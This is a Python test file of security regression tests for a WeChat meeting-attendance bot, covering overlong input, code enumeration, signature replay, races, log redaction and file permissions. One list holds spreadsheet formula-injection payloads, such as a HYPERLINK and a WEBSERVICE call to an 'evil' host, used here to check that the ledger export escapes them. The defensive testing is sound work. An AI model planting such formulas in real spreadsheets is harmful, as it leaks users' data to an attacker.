"""Issue 10: hostile input that once crashed something (on PostgreSQL where it did)."""

from __future__ import annotations

from concurrent.futures import ThreadPoolExecutor
from datetime import timedelta

import pytest

from bot.simulator import event_xml, message_xml, text_xml
from core import texts
from tests.factories import make_branch, make_meeting, make_member


@pytest.fixture
def village(session, clock):
    branch = make_branch(session)
    admin = make_member(session, branch, "李书记", "13800000001", openid="o-admin",
                        is_admin=True)
    member = make_member(session, branch, "张明", "13800000003", openid="o-zm")
    meeting = make_meeting(session, branch, clock() + timedelta(minutes=30), latitude=47.92,
                           longitude=129.58)
    session.commit()
    return branch, admin, member, meeting


# 5. Validly signed messages with fields longer than any column got a 500 on PostgreSQL.
@pytest.mark.parametrize("xml", [
    text_xml("o" * 65, "帮助"),
    text_xml("o" * 60_000, "帮助"),
    message_xml("o-zm", "t" * 100, {}),
    text_xml("o-zm", "帮助", msg_id="9" * 200),
    event_xml("o-zm", "e" * 100),
])
def test_overlong_fields_are_refused_with_400(chat, xml, caplog):
    response = chat.post_xml(xml)
    assert response.status_code == 400
    assert any("too long" in r.getMessage() for r in caplog.records)


# 6. Odd numbers ended in the apology with a traceback.
@pytest.mark.parametrize(("text", "expected"), [
    ("学习 99999999999999999999", texts.STUDY_BAD_NUMBER),
    ("已学 " + "9" * 30, texts.STUDY_BAD_NUMBER),
    ("学习 " + "9" * 5000, texts.STUDY_BAD_NUMBER),
    ("学习 ²", None),  # NFKC reads it as 2: "no such item", not a crash
    ("补录 99999999999999999999 张明 出席", texts.BACKFILL_USAGE),
    ("新建会议 党课 0001-01-01 00:00 x", texts.MEETING_BAD_TIME.format(text="0001-01-01")),
    ("新建会议 党课 9999-12-31 23:59 x", None),  # far future is allowed, not a crash
])
def test_odd_numbers_get_the_usage_reply(chat, village, text, expected, caplog):
    reply = chat.say("o-admin", text)
    assert reply != texts.SORRY
    if expected is not None:
        assert reply == expected
    assert not [r for r in caplog.records if r.exc_info]


@pytest.mark.parametrize("scene", ["meeting:" + "9" * 30, "meeting:²", "meeting:-1"])
def test_odd_qr_scenes_get_a_polite_reply(chat, village, scene, caplog):
    reply = chat.event("o-zm", "SCAN", scene)
    assert reply != texts.SORRY and "没有找到" in reply
    assert not [r for r in caplog.records if r.exc_info]


@pytest.mark.parametrize(("lat", "lng"), [("inf", "0"), ("nan", "nan"), ("1e400", "0"),
                                          ("-inf", "-inf"), ("91", "0")])
def test_non_finite_locations_never_check_in(chat, village, lat, lng, caplog):
    xml = message_xml("o-zm", "location", {"Location_X": lat, "Location_Y": lng,
                                           "Scale": "15", "Label": "x"})
    reply = chat.send_xml(xml).content
    assert "签到成功" not in reply and reply != texts.SORRY
    assert not [r for r in caplog.records if r.exc_info]


# 12. instance/ was 0755 and partybot.db (+ -wal, -shm) 0644 under umask 022.
def test_instance_and_database_files_are_private(tmp_path):
    import os
    import stat

    from bot.schema_upgrade import upgrade_database
    from core.config import load_settings
    from models.db.engine import make_engine

    old = os.umask(0o022)
    try:
        instance = tmp_path / "instance"
        settings = load_settings({"PARTYBOT_INSTANCE_PATH": str(instance),
                                  "PARTYBOT_DATABASE_URL": f"sqlite:///{instance}/p.db"},
                                 dotenv_path=None)
        engine = make_engine(settings.database_url)
        upgrade_database(engine)
        with engine.connect() as connection:  # WAL and shm exist while connected
            connection.exec_driver_sql("SELECT 1")
            modes = {p.name: stat.S_IMODE(p.stat().st_mode) for p in instance.iterdir()}
        engine.dispose()
    finally:
        os.umask(old)
    assert stat.S_IMODE(instance.stat().st_mode) == 0o700
    assert modes["p.db"] == 0o600 and modes["secret_key"] == 0o600
    assert all(mode == 0o600 for name, mode in modes.items() if name.startswith("p.db")), modes


# 14. bind_guard gained a row per openid that ever guessed wrong, never pruned.
def test_binding_guards_are_pruned_with_the_dedupe_keys(services, session, clock):
    from sqlalchemy import func, select

    from models.db.guesses import GuessGuard
    from schedules.upkeep import prune_inbound_keys

    session.add_all([
        GuessGuard(openid="o-old", purpose="bind", failures=2,
                   window_start=clock() - timedelta(hours=2)),
        GuessGuard(openid="o-locked", purpose="bind", failures=5,
                   window_start=clock() - timedelta(hours=2),
                   locked_until=clock() + timedelta(minutes=10)),
        GuessGuard(openid="o-fresh", purpose="bind", failures=1, window_start=clock()),
    ])
    session.commit()
    prune_inbound_keys(services)
    session.rollback()
    left = set(session.scalars(select(GuessGuard.openid)))
    assert left == {"o-locked", "o-fresh"}
    assert session.scalar(select(func.count()).select_from(GuessGuard)) == 2


# 11. With WECHAT_TOKEN set but no WECHAT_APP_ID, anyone could chat as the admin.
def test_sandbox_is_off_when_the_operator_set_a_token(settings, clock, caplog):
    from bot import create_app
    from bot.services import services_of

    app = create_app(settings.with_overrides(wechat_token_configured=True), clock=clock)
    try:
        client = app.test_client()
        assert client.post("/sandbox/send", json={"openid": "demo-admin",
                                                  "text": "统计"}).status_code == 404
        assert client.get("/sandbox/_fake/messages?openid=x").status_code == 404
    finally:
        services_of(app).dispose()
    assert any("sandbox off" in r.getMessage() for r in caplog.records)


@pytest.mark.parametrize(("public", "status"), [(False, 404), (True, 200)])
def test_sandbox_serves_loopback_clients_only_unless_public(settings, clock, public, status):
    from bot import create_app
    from bot.services import services_of

    app = create_app(settings.with_overrides(sandbox_public=public), clock=clock)
    try:
        remote = app.test_client()
        remote.environ_base["REMOTE_ADDR"] = "192.0.2.7"
        assert remote.get("/sandbox/_fake/messages?openid=x").status_code == status
        assert remote.get("/sandbox/").status_code == status
        local = app.test_client()
        assert local.get("/sandbox/").status_code == 200
    finally:
        services_of(app).dispose()


def test_token_from_the_environment_turns_the_sandbox_off():
    from core.config import load_settings

    assert load_settings({"WECHAT_TOKEN": "t"}, dotenv_path=None,
                         generate_secret=False).sandbox_served is False
    assert load_settings({}, dotenv_path=None, generate_secret=False).sandbox_served is True


# 4. A topic or a name beginning with "=" went into the 台账 as a live formula.
HOSTILE = ['=HYPERLINK("http://evil/?"&A1,"详情")', "=WEBSERVICE(\"http://evil\")", "=1+1",
           "\t=1+1", "＝1+1", "+1", "-1+2", "@SUM(A1)", "\r=1"]


def test_ledger_never_writes_a_formula(chat, session, clock, tmp_path):

    from openpyxl import load_workbook

    from bot.ledger.branch import export_ledger
    from models.meetings.rules import close_meeting

    branch = make_branch(session, "=分支")
    make_member(session, branch, "李书记", "13800000001", openid="o-admin", is_admin=True)
    for n, name in enumerate(HOSTILE):
        make_member(session, branch, name[:50], f"1390000000{n}")
    session.commit()
    when = (clock() + timedelta(days=1)).astimezone(__import__("zoneinfo").ZoneInfo(
        "Asia/Shanghai")).strftime("%Y-%m-%d %H:%M")
    reply = chat.say("o-admin", f"新建会议 党课 {when} {HOSTILE[0]} {HOSTILE[1]}")
    if "回复「是」" in reply:  # the clock follows the real time: at night, confirm it
        reply = chat.say("o-admin", "是")
    assert "会议已创建" in reply
    meeting = session.scalars(__import__("sqlalchemy").select(
        __import__("models.meetings.tables", fromlist=["Meeting"]).Meeting)).one()
    close_meeting(session, meeting, meeting.starts_at + timedelta(hours=3))
    session.commit()
    day = meeting.starts_at.date()
    path = tmp_path / "ledger.xlsx"
    export_ledger(session, branch, day - timedelta(days=1), day + timedelta(days=1),
                  __import__("zoneinfo").ZoneInfo("Asia/Shanghai"), path)
    workbook = load_workbook(path)
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts_written = {c.value for c in cells if isinstance(c.value, str)}
    assert "'=1+1" in texts_written and "'＝1+1" in texts_written
    assert any(v.startswith("'=HYPERLINK") for v in texts_written)


def test_as_text_leaves_ordinary_values_alone():
    from bot.ledger.branch import as_text

    assert as_text("张明") == "张明" and as_text(3) == 3 and as_text("") == ""
    assert as_text("-") == "'-"  # a lone minus is harmless but cheap to escape


# 15. 新建会议 for a branch of 6,000 members took 5.8–8.5 s (WeChat waits 5 s).
@pytest.mark.alone
def test_new_meeting_for_a_big_branch_answers_quickly(chat, session, clock):
    import time

    from sqlalchemy import func, insert, select

    from models.delivery.outbox import Outbox
    from models.members.tables import Member

    branch = make_branch(session)
    make_member(session, branch, "李书记", "13800000001", openid="o-admin", is_admin=True)
    session.execute(insert(Member), [
        {"name": f"党员{n}", "branch_id": branch.id, "phone": f"139{n:08d}",
         "openid": f"o-{n}", "subscribed": True, "is_admin": False, "is_helper": False}
        for n in range(6000)])
    session.commit()
    when = (clock() + timedelta(days=2)).strftime("%Y-%m-%d %H:%M")
    started = time.perf_counter()
    reply = chat.say("o-admin", f"新建会议 党员大会 {when} 村委会")
    if "回复「是」" in reply:  # the clock follows the real time: at night, confirm it
        started = time.perf_counter()
        reply = chat.say("o-admin", "是")
    elapsed = time.perf_counter() - started
    assert "会议已创建" in reply and "6001名党员" in reply
    session.rollback()
    assert session.scalar(select(func.count()).select_from(Outbox)) == 6001
    print(f"新建会议 for 6,001 members: {elapsed:.2f} s")
    assert elapsed < 1.5, f"{elapsed:.2f} s"  # the goal is 1 s; CI machines are slower


# 13. One member tried 9,000 codes in a minute; replies told other branches' open codes.
def test_meeting_codes_cannot_be_enumerated(chat, session, village, clock):
    *_, own = village
    other_branch = make_branch(session, "东村党支部")
    other = make_meeting(session, other_branch, clock() + timedelta(minutes=30))
    session.commit()
    unknown = "0000" if own.code != "0000" and other.code != "0000" else "0001"
    not_invited = chat.say("o-zm", f"签到 {other.code}")
    no_such = chat.say("o-zm", f"签到 {unknown}")
    assert not_invited == texts.MEETING_NO_SUCH_CODE.format(code=other.code)
    assert no_such == texts.MEETING_NO_SUCH_CODE.format(code=unknown)
    for _ in range(7):
        chat.say("o-zm", f"签到 {unknown}")
    tenth = chat.say("o-zm", f"签到 {unknown}")
    assert tenth == texts.MEETING_CODE_LOCKED.format(minutes=10)
    # paused: even the right code waits, so a search gains nothing by mixing it in
    assert chat.say("o-zm", f"签到 {own.code}") == texts.MEETING_CODE_LOCKED.format(minutes=10)
    clock.advance(minutes=11)
    assert "签到成功" in chat.say("o-zm", f"签到 {own.code}")


def test_a_mistyped_code_now_and_then_is_not_punished(chat, village, clock):
    *_, own = village
    for _ in range(3):
        chat.say("o-zm", "签到 0")
        clock.advance(minutes=5)
    assert "签到成功" in chat.say("o-zm", f"签到 {own.code}")


def test_admins_cannot_probe_other_branches_codes(chat, session, village, clock):
    other = make_meeting(session, make_branch(session, "东村党支部"),
                         clock() + timedelta(hours=3))
    session.commit()
    reply = chat.say("o-admin", f"取消会议 {other.code}")
    # the same reply as a code nobody has: an admin's commands look in their branch only
    assert reply == texts.MEETING_NOT_IN_BRANCH.format(number=other.code)
    assert chat.say("o-admin", "取消会议 0000") == texts.MEETING_NOT_IN_BRANCH.format(
        number="0000")


# 7. Races on PostgreSQL: two openids told 绑定成功 for one member; concurrent 签到 failed.
def _concurrently(app, clock, messages):
    """Post signed messages at once over real HTTP; the decrypted replies in order."""
    import threading

    import requests

    from bot.simulator import WeChatSide
    from tests.conftest import TOKEN
    from tests.live import serving

    side = WeChatSide(TOKEN)
    signed = [side.sign_request(xml, timestamp=int(clock().timestamp())) for xml in messages]
    start = threading.Barrier(len(signed))
    with serving(app) as base:
        def post(request):
            start.wait()
            response = requests.post(f"{base}/wechat?{request.query}", data=request.body,
                                     timeout=30)
            assert response.status_code == 200
            return side.open_reply(response.content).content

        with ThreadPoolExecutor(max_workers=len(signed)) as pool:
            return list(pool.map(post, signed))


@pytest.mark.parametrize("trial", range(3))
def test_concurrent_binding_has_exactly_one_winner(app, session, clock, trial):
    from sqlalchemy import select

    from models.members.tables import Member

    branch = make_branch(session)
    make_member(session, branch, "韩梅", "13800000015")
    session.commit()
    replies = _concurrently(app, clock, [text_xml(f"o-race-{trial}-{i}", "绑定 韩梅 0015")
                                  for i in range(8)])
    winners = [r for r in replies if r.startswith("绑定成功")]
    assert len(winners) == 1, replies
    assert all("已经绑定了另一个微信" in r for r in replies if r not in winners), replies
    session.expire_all()
    bound = session.scalar(select(Member.openid).where(Member.name == "韩梅"))
    assert bound is not None and bound.startswith(f"o-race-{trial}-")


def test_concurrent_check_ins_all_succeed(app, session, clock, village):
    _, _, _, meeting = village
    replies = _concurrently(app, clock, [text_xml("o-zm", f"签到 {meeting.code}", msg_id=f"5{i:05}")
                                  for i in range(8)])
    assert all("签到成功" in r or r == texts.CHECKIN_ALREADY for r in replies), replies
    assert sum("签到成功" in r for r in replies) >= 1


# 10. One plain-mode signature triple was accepted with 20 different bodies.
def test_a_replayed_signature_with_another_body_is_refused(chat, village, clock, caplog):
    first = text_xml("o-zm", "会议", msg_id="700001")
    fixed = {"timestamp": int(clock().timestamp()), "nonce": "424242"}
    reply = chat.send_xml(first, **fixed).content
    # WeChat's retry: same query, same body → the stored reply
    assert chat.send_xml(first, **fixed).content == reply
    # an attacker who saw the query sends the admin's 统计 with it
    forged = chat.post_xml(text_xml("o-admin", "统计", msg_id="700002"), **fixed)
    assert forged.status_code == 403
    assert any("signature already used" in r.getMessage() for r in caplog.records)
    # the same message with a fresh signature is fine
    assert chat.say("o-admin", "统计")


def test_secrets_in_logged_urls_are_redacted(caplog):
    import logging

    from core.redact import RedactingFilter, redact

    line = ("POST /wechat?signature=abc123&timestamp=1&nonce=2&msg_signature=def456 200; "
            "GET https://api.weixin.qq.com/cgi-bin/user/info?access_token=SECRET-TOKEN&openid=o")
    assert redact(line) == (
        "POST /wechat?signature=***&timestamp=1&nonce=2&msg_signature=*** 200; "
        "GET https://api.weixin.qq.com/cgi-bin/user/info?access_token=***&openid=o")
    record = logging.LogRecord("urllib3", logging.DEBUG, __file__, 1, "%s %s",
                               ("GET", "/cgi-bin/token?access_token=SECRET"), None)
    RedactingFilter().filter(record)
    assert "SECRET" not in record.getMessage()


def test_the_cli_installs_the_redacting_filter():
    import logging

    from core.logging_setup import configure_logging as _setup_logging
    from core.redact import RedactingFilter

    root = logging.getLogger()
    added = logging.StreamHandler()
    root.addHandler(added)
    try:
        _setup_logging()
        assert any(isinstance(f, RedactingFilter) for f in added.filters)
    finally:
        root.removeHandler(added)


def test_a_replayed_signature_keeps_nothing_its_handler_did(chat, village, clock, session):
    """On SQLite the key is recorded after the handler (with its reply): a replayed
    signature found then rolls the handler's work back — here a question that would
    have gone to the secretary, and the key itself."""
    from sqlalchemy import func, select

    from models.db.inbound import InboundMessage
    from models.questions.tables import Question

    def count(model) -> int:  # type: ignore[no-untyped-def]
        session.rollback()
        return session.scalar(select(func.count()).select_from(model)) or 0

    fixed = {"timestamp": int(clock().timestamp()), "nonce": "434343"}
    chat.send_xml(text_xml("o-zm", "会议", msg_id="710001"), **fixed)
    questions, keys = count(Question), count(InboundMessage)
    forged = chat.post_xml(text_xml("o-zm", "今年还评不评优秀党员？", msg_id="710002"), **fixed)
    assert forged.status_code == 403
    assert (count(Question), count(InboundMessage)) == (questions, keys)
    chat.say("o-zm", "今年还评不评优秀党员？")  # sent properly, the question is kept
    assert count(Question) == questions + 1
